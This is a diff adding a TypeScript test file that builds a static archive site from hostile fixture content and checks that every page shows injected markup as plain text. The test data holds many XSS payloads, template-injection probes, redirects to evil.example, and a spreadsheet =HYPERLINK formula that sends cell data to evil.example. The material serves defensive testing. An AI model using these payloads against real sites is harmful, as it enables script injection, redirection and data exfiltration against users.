@@ -1,0 +1,166 @@
+/**
+ * An archive whose every text is an attempt to run something, built and opened page by page: nothing
+ * runs, nothing complains, and readers see the texts as they stand in the records.
+ */
+import { spawnSync } from 'node:child_process'
+import { readFileSync } from 'node:fs'
+import { join, resolve } from 'node:path'
+import { beforeAll, describe, expect, test } from 'vitest'
+import { checkOutput } from '../../src/output/check.ts'
+import { listFiles } from '../../src/output/files.ts'
+import { checkContent } from '../../src/records/check.ts'
+import { copyProject } from '../hosts/project.ts'
+import { useSite } from './site.ts'
+import { strangers } from './strangers.ts'
+
+const content = resolve('tests/fixtures/hostile/content')
+const project = copyProject('hostile')
+const dist = join(project, 'dist')
+
+beforeAll(() => {
+  const { status, stdout, stderr } = spawnSync('astro', ['build'], {
+    cwd: project,
+    encoding: 'utf8',
+    // Not what the test runner sets: Astro would take the build for a test.
+    env: { PATH: process.env['PATH'], ARCHIVE_CONTENT: content, NODE_ENV: 'production' },
+  })
+  expect(status, `${stdout}\n${stderr}`).toBe(0)
+})
+
+const site = useSite('/', dist)
+const pages = () => listFiles(dist).filter((file) => file.endsWith('.html') && file !== '404.html')
+
+test('its records are sound: nothing of it is refused before it is shown', () => {
+  expect(checkContent(content).problems.filter((p) => p.severity === 'error')).toEqual([])
+})
+
+test('its pages hold to the policy and to the limits of size', () => {
+  const { problems, pageCount } = checkOutput(dist)
+  expect(pageCount).toBeGreaterThan(30)
+  // The archive's own documentation may link to events that this archive does not have.
+  expect(problems.filter((p) => p.code !== 'broken-link')).toEqual([])
+})
+
+test('no page runs, loads, leads or sends anything of another’s, or is wider than a phone', async () => {
+  const phone = { viewport: { width: 320, height: 600 } }
+  for (const file of pages()) {
+    const { page, complaints } = await site.open(file, phone)
+    expect(complaints, file).toEqual([])
+    expect(await page.evaluate(strangers), file).toEqual([])
+    const wider = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)
+    expect(wider, `${file}: pixels that stick out to the side`).toBeLessThanOrEqual(0)
+    await page.close()
+  }
+}, 300_000)
+
+describe('texts are shown as they stand in the records', () => {
+  test.each([
+    [
+      'events/la-hulpe-conference/',
+      [
+        `<script>alert('title')</script> opens & closes`,
+        `“<b onmouseover=alert('words')>on 3 November 2014</b>”`,
+        `</p><script>alert('note')</script>`,
+        `</strong><script>alert('of')</script>`,
+        `<svg/onload=alert('place')>`,
+        `" onmouseover="alert('role')" x="`,
+        "${alert('participation')}",
+        `<marquee onstart=alert('unnamed')>somebody</marquee>`,
+        `</span><script>alert('locator')</script>`,
+        `<a href=javascript:alert('note')>a note</a>`,
+        `“”</p></blockquote><script>alert('quotation')</script>”`,
+        `<style>*{display:none}</style>`,
+        "`${alert('template')}` \\u003cscript\\u003e {{7*7}}",
+        `<script>alert('about')</script>`,
+        `<u onclick=alert('claim')>one</u>`,
+        `</li></ul><script>alert('claim')</script>`,
+        `<meta http-equiv=refresh content='0;url=https://evil.example'>`,
+        `</del><script>alert('was')</script>`,
+        `<base href=https://evil.example/>`,
+        `The summary has <script>alert('summary')</script> in it. It also has {{7*7}}, \${alert(1)} and`,
+        '<!-- what looks like a comment -->',
+        '=HYPERLINK("https://evil.example/?"&A1,"click")',
+      ],
+    ],
+    [
+      'sources/israel-eu-mission-news-and-events/',
+      [
+        `</title><script>alert('source')</script>`,
+        `<img src=x onerror=alert('publisher')>`,
+        `javascript:alert('agency')`,
+        `"><svg onload=alert('author')>`,
+        `<b>Nobody</b>; </a><script>alert('rests')</script>`,
+        `<script>alert('body')</script> <img src=x onerror=alert('entity')> <b>code</b>`,
+      ],
+    ],
+    [
+      'sources/urdupoint-2021-07-13/',
+      [`{{constructor.constructor('alert(1)')()}}`, `<script>alert('fence')</script>`],
+    ],
+    [
+      'people/constructor/',
+      [
+        `O'Brien "Bobby" <script>alert('name')</script>`,
+        `" onmouseover="alert('alias')"`,
+        `</dd><script>alert('alias')</script>`,
+        '<b>יאיר</b> לפיד',
+        '__proto__',
+        `<script>alert('evidence')</script>`,
+      ],
+    ],
+    [
+      'topics/templates/',
+      ['{{7*7}} ${7*7} {7*7} <%= 7*7 %> #{7*7}', '$&', "$'", '\\x3cscript\\x3e'],
+    ],
+    ['organizations/', ['"\'`><&amp;&lt;']],
+    ['places/', [`<svg onload=alert('place')>`, `in </a></li><script>alert('within')</script>`]],
+    ['changes/', [`</p><script>alert('why')</script>`]],
+    ['conflicts/', [`<u onclick=alert('claim')>one</u>`]],
+    ['founding/', [`</title><script>alert('source')</script>`]],
+    ['', [`<script>alert('title')</script> opens & closes`]],
+  ])('/%s', async (path, texts) => {
+    const { page } = await site.open(path)
+    const main = spaced((await page.getByRole('main').textContent())!)
+    for (const text of texts) expect(main).toContain(spaced(text))
+  })
+})
+
+test('titles and descriptions of pages are text, too', async () => {
+  const { page } = await site.open('sources/israel-eu-mission-news-and-events/')
+  expect(await page.title()).toMatch(/^<\/title><script>alert\('source'\)/)
+  const described = await page.locator('meta[name=description]').getAttribute('content')
+  expect(described).toContain(`</title><script>alert('source')</script>, <img src=x onerror=alert`)
+})
+
+test.each([
+  ['opens', `<script>alert('title')</script> opens & closes`],
+  ['click', '=HYPERLINK("https://evil.example/?"&A1,"click")'],
+])('the search for “%s” shows a title as it is', async (query, title) => {
+  const { page, complaints } = await site.open(`search/?q=${encodeURIComponent(query)}`)
+  const result = page.locator('[data-search-results] h3').first()
+  await result.waitFor()
+  expect(await result.textContent()).toBe(title)
+  expect(await page.evaluate(strangers)).toEqual([])
+  expect(complaints).toEqual([])
+})
+
+test('excerpts and suggestions show markup as text', async () => {
+  const { page, complaints } = await site.open('search/?q=summary+template')
+  await page.locator('[data-search-results] li').first().waitFor()
+  expect(await page.locator('[data-search-results]').textContent()).toContain(
+    `<script>alert('summary')</script>`,
+  )
+  await page.locator('.site-search input').fill('alert')
+  await page.locator('.suggestions [role=option]').nth(1).waitFor()
+  expect(await page.locator('.suggestions').textContent()).toContain(`<script>alert('name')`)
+  expect(await page.evaluate(strangers)).toEqual([])
+  expect(complaints).toEqual([])
+})
+
+test('the table keeps a formula from being reckoned', () => {
+  expect(readFileSync(join(dist, 'data/events.csv'), 'utf8')).toContain(
+    `,"'=HYPERLINK(""https://evil.example/?""&A1,""click"")",`,
+  )
+})
+
+const spaced = (text: string) => text.replace(/\s+/g, ' ')
